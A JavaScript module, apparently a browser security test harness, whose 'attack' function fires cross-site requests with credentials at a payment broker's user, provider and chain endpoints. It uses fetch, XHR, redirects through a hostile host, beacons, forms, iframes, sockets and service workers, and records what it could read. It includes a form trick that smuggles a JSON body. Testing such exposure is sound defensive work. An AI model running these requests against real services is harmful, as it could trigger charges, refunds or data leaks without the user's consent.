// Everything that a page can make a browser send to somebody else, as one function that runs inside the page. It gives a list of
// [way, what it could read]: null where it read nothing. A status of 400 or more, whose body says only why, is nothing.

export async function attack({ user, provider, chain, owner, hostile, tag }) {
  const got = [];
  const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve(null), 1500))]);
  const at = (url, shape) => (tag ? `${url}${url.includes("?") ? "&" : "?"}shape=${encodeURIComponent(shape)}` : url);
  const chat = '{"model": "eliza", "messages": [{"role": "user", "content": "spend"}]}';
  const paid = `${user}/v1/provider/${owner}/service`;
  const targets = [
    ["charge", `${user}/v1/provider/${owner}/charge`, '{"balance": "5"}'],
    ["refund", `${user}/v1/provider/${owner}/refund`, '{"amount": "5"}'],
    ["open", `${user}/v1/provider`, `{"provider": "${owner}", "balance": "5"}`],
    ["sync", `${user}/v1/sync`, ""],
    ["paid", `${paid}/eliza/chat/completions`, chat],
    ["openai", `${user}/v1/chat/completions`, chat],
    ["settle", `${provider}/v1/settle`, ""],
    ["pause", `${provider}/v1/service/eliza/pause`, ""],
    ["chain", `${chain}/`, '{"jsonrpc": "2.0", "id": 1, "method": "evm_mine", "params": []}'],
  ];
  const kinds = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json"];
  const all = [];
  const way = (shape, promise) => all.push(soon(promise.catch(() => null)).then((what) => got.push([shape, what])));
  const answer = async (response) => (response.type !== "opaque" && response.status < 400 ? `${response.status} ${await response.text()}` : null);

  for (const [name, url, body] of targets) {
    for (const mode of ["cors", "no-cors"]) {
      for (const kind of kinds) {
        const shape = `fetch ${mode} ${kind.split(";")[0]} ${name}`;
        const init = { method: "POST", mode, credentials: "include", headers: { "content-type": kind }, body };
        way(shape, fetch(at(url, shape), init).then(answer));
      }
    }
    const bare = { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", keepalive: true, body };
    way(`fetch bare ${name}`, fetch(at(url, `fetch bare ${name}`), bare).then(answer));
    way(`fetch blob ${name}`, fetch(at(url, `fetch blob ${name}`), { method: "POST", mode: "no-cors", body: new Blob([body]) }).then(answer));
    for (const method of ["PUT", "DELETE", "PATCH", "GET", "HEAD"]) {
      const init = { method, mode: method === "GET" || method === "HEAD" ? "no-cors" : "cors" };
      way(`fetch ${method} ${name}`, fetch(at(url, `fetch ${method} ${name}`), init).then(answer));
    }
    way(`xhr ${name}`, new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("POST", at(url, `xhr ${name}`));
      request.setRequestHeader("content-type", "text/plain");
      request.onload = () => resolve(request.status < 400 ? request.responseText : null);
      request.onerror = () => resolve(null);
      request.send(body);
    }));
    for (const code of [307, 308, 302]) {
      const to = `${hostile}/redirect/${code}?to=${encodeURIComponent(at(url, `redirect ${code} ${name}`))}`;
      way(`redirect ${code} ${name}`, fetch(to, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body }).then(answer));
    }
    for (const kind of ["text/plain", "application/json"]) {
      navigator.sendBeacon?.(at(url, `beacon ${kind} ${name}`), new Blob([body], { type: kind }));
    }
    navigator.sendBeacon?.(at(url, `beacon form ${name}`), new URLSearchParams("balance=5"));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.name = `frame ${name} ${enctype}`;
      const form = document.body.appendChild(document.createElement("form"));
      Object.assign(form, { method: "POST", action: at(url, `form ${enctype} ${name}`), enctype, target: frame.name });
      const field = form.appendChild(document.createElement("input"));
      // In text/plain a field and its value make up JSON around the sign between them.
      [field.name, field.value] = enctype === "text/plain" && body.length > 2 ? [body.slice(0, -1) + ', "x": "', '"}'] : ["balance", "5"];
      form.submit();
      const read = () => { try { return frame.contentDocument?.body?.innerText?.includes("error") === false && frame.contentDocument.body.innerText || null; } catch { return null; } };
      way(`form ${enctype} ${name}`, new Promise((resolve) => (frame.onload = () => resolve(read()))));
    }
  }

  const reads = [`${user}/v1/provider`, `${user}/v1/request`, `${paid}/files/pixel.png`, `${paid}/files/code.js`, `${paid}/files/style.css`, `${provider}/v1/user`, `${user}/`, `${provider}/`];
  for (const [number, url] of reads.entries()) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      way(`read ${mode} ${number}`, fetch(at(url, `read ${mode} ${number}`), { mode, credentials: "include" }).then(answer));
    }
    for (const name of ["img", "script", "iframe", "embed", "object", "video", "audio", "link", "prefetch", "preload", "svg", "track"]) {
      const tagName = { prefetch: "link", preload: "link", svg: "img", track: "video" }[name] ?? name;
      const element = document.createElement(tagName);
      if (tagName === "link") Object.assign(element, { rel: name === "link" ? "stylesheet" : name, as: name === "preload" ? "fetch" : "" });
      element[{ link: "href", object: "data" }[tagName] ?? "src"] = at(url, `${name} ${number}`);
      way(`${name} ${number}`, new Promise((resolve) => {
        element.onerror = () => resolve(null);
        element.onload = () => {
          let seen = null;
          try { seen = element.contentDocument?.body?.innerText || null; } catch { /* of another origin */ }
          if (seen?.includes('"error"')) seen = null;
          resolve(element.naturalWidth > 0 ? "a picture" : element.sheet?.cssRules?.length ? "a style" : seen);
        };
        document.body.append(element);
      }));
    }
  }
  document.body.style.backgroundImage = `url("${at(`${paid}/files/pixel.png`, "css")}")`;
  for (const base of [user, provider]) {
    const events = new EventSource(at(`${base}/v1/events`, "events"), { withCredentials: true });
    way(`events ${base}`, new Promise((resolve) => {
      events.onopen = () => resolve("an open stream");
      events.onerror = () => resolve(null);
    }).finally(() => events.close()));
    for (const path of ["/v1/events", "/", `/v1/provider/${owner}/service/eliza/realtime`]) {
      way(`websocket ${base}${path}`, new Promise((resolve) => {
        const socket = new WebSocket(at(base.replace("http", "ws") + path, `websocket ${path}`));
        socket.onopen = () => resolve("an open socket");
        socket.onerror = () => resolve(null);
      }));
    }
  }
  const anchor = document.body.appendChild(document.createElement("a"));
  Object.assign(anchor, { href: "#here", ping: at(`${user}/v1/sync`, "ping") });
  anchor.click();
  const sandbox = document.body.appendChild(document.createElement("iframe"));
  sandbox.sandbox = "allow-scripts allow-forms";
  sandbox.srcdoc = `<script>fetch(${JSON.stringify(at(targets[0][1], "sandbox"))}, {method: "POST", mode: "no-cors", body: ${JSON.stringify(targets[0][2])}})</script>`;
  const reporting = document.body.appendChild(document.createElement("iframe"));
  reporting.src = `${hostile}/reporting?to=${encodeURIComponent(at(targets[0][1], "report"))}`;
  const refresh = document.body.appendChild(document.createElement("iframe"));
  refresh.srcdoc = `<meta http-equiv="refresh" content="0;url=${at(`${paid}/files/pixel.png`, "refresh")}">`;
  const opened = window.open(at(`${user}/v1/provider`, "window"));
  way("window", new Promise((resolve) => setTimeout(() => {
    try { const text = opened?.document?.body?.innerText ?? ""; resolve(text && !text.includes('"error"') ? text : null); } catch { resolve(null); }
  }, 1000)));
  // A worker of the page's own, and one whose code would be the broker's.
  if (navigator.serviceWorker) {
    way("service worker", navigator.serviceWorker.register("/worker.js").then(async () => {
      const { active } = await navigator.serviceWorker.ready;
      const channel = new MessageChannel();
      const heard = new Promise((resolve) => (channel.port1.onmessage = (event) => resolve(event.data)));
      active.postMessage({ url: at(targets[0][1], "worker"), init: { method: "POST", mode: "no-cors", body: targets[0][2] } }, [channel.port2]);
      const text = await heard;
      return text && text !== "error" ? text : null;
    }));
    way("a worker of the broker's", navigator.serviceWorker.register(`${paid}/files/code.js`).then(() => "registered"));
  }
  way("a script of the broker's", import(at(`${paid}/files/code.js`, "import")).then(() => "imported"));
  await Promise.all(all);
  await new Promise((resolve) => setTimeout(resolve, 500));
  got.push(["a script that ran", window.taken ? "it ran" : null]);
  got.push(["a style that counted", getComputedStyle(document.body).width === "77px" ? "it counted" : null]);
  return got;
}
